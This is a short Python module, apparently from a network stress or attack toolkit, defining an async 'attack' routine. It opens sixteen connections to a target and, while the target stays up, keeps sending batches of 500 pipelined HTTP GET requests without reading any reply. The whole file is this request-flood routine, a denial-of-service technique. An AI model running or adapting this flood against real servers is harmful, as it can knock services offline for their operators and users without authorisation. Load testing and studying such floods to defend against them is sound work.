"""Requests without end on a connection, no answer read."""

from wire.http1 import request
from wire.link import link


async def attack(target):
    async def lane(number):
        async with link(target, target.source(number)) as it:
            if it:
                while target.goes_on():
                    await it.send(request("GET", "/.well-known/nq") * 500)

    await target.lanes(16, lane)
